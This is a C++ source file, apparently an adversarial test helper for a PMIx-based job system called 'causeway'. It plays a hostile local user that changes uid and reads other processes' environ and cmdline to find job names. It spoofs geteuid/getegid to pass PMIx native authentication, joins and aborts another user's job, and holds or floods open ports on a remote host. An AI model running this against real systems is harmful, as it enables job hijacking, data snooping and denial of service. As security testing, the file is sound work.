// Another user of the machine, who wants into a job or in its way:
//   intruder MODE OWNER DIRECTORY [NAMESPACE]
// Gives root up for the user after OWNER, finds the TCP ports of this machine's own addresses that
// OWNER listens at, and what DIRECTORY, /dev/shm and the lists of processes tell of names of
// OWNER's jobs.
//   join  becomes a rank under any of the names, or NAMESPACE: reads a card and ends the job. Says
//         "joined", "card", "aborted"; and "done" at its end.
//   hold  connects to each port as soon as it is there, and says nothing; or with NAMESPACE that,
//         and for "hello" how PMIx's client begins. Says "held" for each. Ends when it is killed.
//   own   as hold, without giving root up.
//   bother  NAMESPACE is the address of another host: finds the ports that are open there, again
//   and
//         again, and keeps connections to each: silent ones, ones that send nonsense or announce
//         much, and ones that send a byte now and then. Says "found" for each. Ends when it is
//         killed.
#include <arpa/inet.h>
#include <fcntl.h>
#include <grp.h>
#include <netinet/in.h>
#include <pmix.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <set>
#include <string>
#include <vector>

namespace {

namespace fs = std::filesystem;

uid_t g_claimed = 0;

std::string read_file(const fs::path& path) {
  std::ifstream file(path, std::ios::binary);
  return {std::istreambuf_iterator<char>(file), {}};
}

void say(const std::string& line) {
  std::printf("%s\n", line.c_str());
  std::fflush(stdout);
}

std::set<unsigned> ports_of(unsigned owner) {
  std::set<unsigned> ports;
  std::ifstream table("/proc/net/tcp");
  for (std::string line; std::getline(table, line);) {
    unsigned address = 0, port = 0, state = 0, uid = 0;
    if (std::sscanf(line.c_str(), " %*u: %8X:%4X %*8X:%*4X %X %*X:%*X %*X:%*X %*X %u", &address,
                    &port, &state, &uid) == 4 &&
        state == 10 && uid == owner && (address & 0xff) == 127)
      ports.insert(port);
  }
  return ports;
}

// Words that begin as the names of OWNER's jobs do.
std::set<std::string> names_of(unsigned owner, const fs::path& directory) {
  std::string text;
  std::error_code ignored;
  const auto skip = fs::directory_options::skip_permission_denied;
  for (const fs::path& root : {directory, fs::path("/dev/shm")}) {
    for (fs::recursive_directory_iterator it(root, skip, ignored), end; it != end;
         it.increment(ignored))
      text += it->path().filename().string() + " ";
  }
  for (fs::directory_iterator it("/proc", ignored), end; it != end; it.increment(ignored)) {
    for (const char* file : {"cmdline", "environ", "maps"})
      text += read_file(it->path() / file) + " ";
  }
  const std::string head = "causeway-" + std::to_string(owner) + "-";
  std::set<std::string> names;
  for (size_t at = text.find(head); at != std::string::npos; at = text.find(head, at + 1)) {
    const size_t end = text.find_first_not_of("abcdefghijklmnopqrstuvwxyz0123456789-.", at);
    names.insert(text.substr(at, end - at));
  }
  return names;
}

// In a process of its own: PMIx is joined once.
void join(const std::string& name, unsigned port) {
  ::alarm(5);
  const std::string uri = name + ".0;tcp4://127.0.0.1:" + std::to_string(port);
  ::setenv("PMIX_NAMESPACE", name.c_str(), 1);
  ::setenv("PMIX_RANK", "0", 1);
  ::setenv("PMIX_SECURITY_MODE", "native", 1);
  ::setenv("PMIX_GDS_MODULE", "hash", 1);
  ::setenv("PMIX_BFROP_BUFFER_TYPE", "PMIX_BFROP_BUFFER_NON_DESC", 1);
  for (const char* version : {"PMIX_SERVER_URI41", "PMIX_SERVER_URI4", "PMIX_SERVER_URI3"})
    ::setenv(version, uri.c_str(), 1);
  pmix_proc_t self;
  if (PMIx_Init(&self, nullptr, 0) != PMIX_SUCCESS) ::_exit(1);
  say("joined");
  pmix_proc_t peer = self;
  peer.rank = 1;
  pmix_value_t* value = nullptr;
  if (PMIx_Get(&peer, "causeway.card.0", nullptr, 0, &value) == PMIX_SUCCESS) say("card");
  if (PMIx_Abort(3, "a stranger", nullptr, 0) == PMIX_SUCCESS) say("aborted");
  ::_exit(0);
}

void join_all(unsigned owner, const std::set<std::string>& names) {
  g_claimed = owner;
  for (const unsigned port : ports_of(owner)) {
    for (const std::string& name : names) {
      if (::fork() == 0) join(name, port);
      ::wait(nullptr);
    }
  }
}

sockaddr_in at(const std::string& address, unsigned port) {
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_port = ::htons(static_cast<uint16_t>(port));
  ::inet_pton(AF_INET, address.c_str(), &to.sin_addr);
  return to;
}

// -1: nobody listens there.
int try_port(const sockaddr_in& to) {
  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  if (::connect(fd, reinterpret_cast<const sockaddr*>(&to), sizeof to) == 0) return fd;
  ::close(fd);
  return -1;
}

void hold(unsigned owner, std::string words) {
  // That 100 bytes follow.
  if (words == "hello") words = std::string(8, '\xff') + 'd' + std::string(7, '\0');
  for (std::set<unsigned> held;;) {
    for (const unsigned port : ports_of(owner)) {
      if (!held.insert(port).second) continue;
      const int fd = try_port(at("127.0.0.1", port));
      if (fd < 0) continue;
      if (!words.empty()) ::send(fd, words.data(), words.size(), MSG_NOSIGNAL);
      say("held");
    }
    ::usleep(500);
  }
}

void bother(const std::string& address) {
  std::string nonsense(4096, '\0');
  unsigned seed = 1;
  for (char& c : nonsense) c = static_cast<char>((seed = seed * 1103515245 + 12345) >> 16);
  const std::string words[] = {
      "", nonsense, std::string(64, '\xff'), std::string(64, '\0'), "GET / HTTP/1.0\r\n\r\n", "s"};
  std::vector<int> slow;
  for (;;) {
    // Where Linux puts ports that nobody has chosen.
    for (unsigned port = 32768; port < 61000; ++port) {
      const sockaddr_in to = at(address, port);
      const int scan = try_port(to);
      if (scan < 0) continue;
      ::close(scan);
      say("found " + std::to_string(port));
      for (const std::string& word : words) {
        const int fd = try_port(to);
        ::send(fd, word.data(), word.size(), MSG_NOSIGNAL | MSG_DONTWAIT);
        slow.push_back(fd);
      }
    }
    for (const int fd : slow) ::send(fd, "s", 1, MSG_NOSIGNAL | MSG_DONTWAIT);
    while (slow.size() > 500) {
      ::close(slow.front());
      slow.erase(slow.begin());
    }
  }
}

}  // namespace

// PMIx's client asks for its user number, and sends that.
extern "C" __attribute__((visibility("default"))) uid_t geteuid() noexcept {
  return g_claimed;
}
extern "C" __attribute__((visibility("default"))) gid_t getegid() noexcept {
  return g_claimed;
}

int main(int argc, char** argv) {
  if (argc < 4) return 2;
  const std::string mode = argv[1], given = argc > 4 ? argv[4] : "";
  const auto owner = static_cast<unsigned>(std::atoi(argv[2]));
  if (mode != "own" &&
      (::setgroups(0, nullptr) != 0 || ::setgid(owner + 1) != 0 || ::setuid(owner + 1) != 0)) {
    std::perror("intruder: cannot become another user");
    return 2;
  }
  if (mode == "bother") bother(given);
  if (mode != "join") hold(owner, given);
  join_all(owner, given.empty() ? names_of(owner, argv[3]) : std::set<std::string>{given});
  say("done");
}
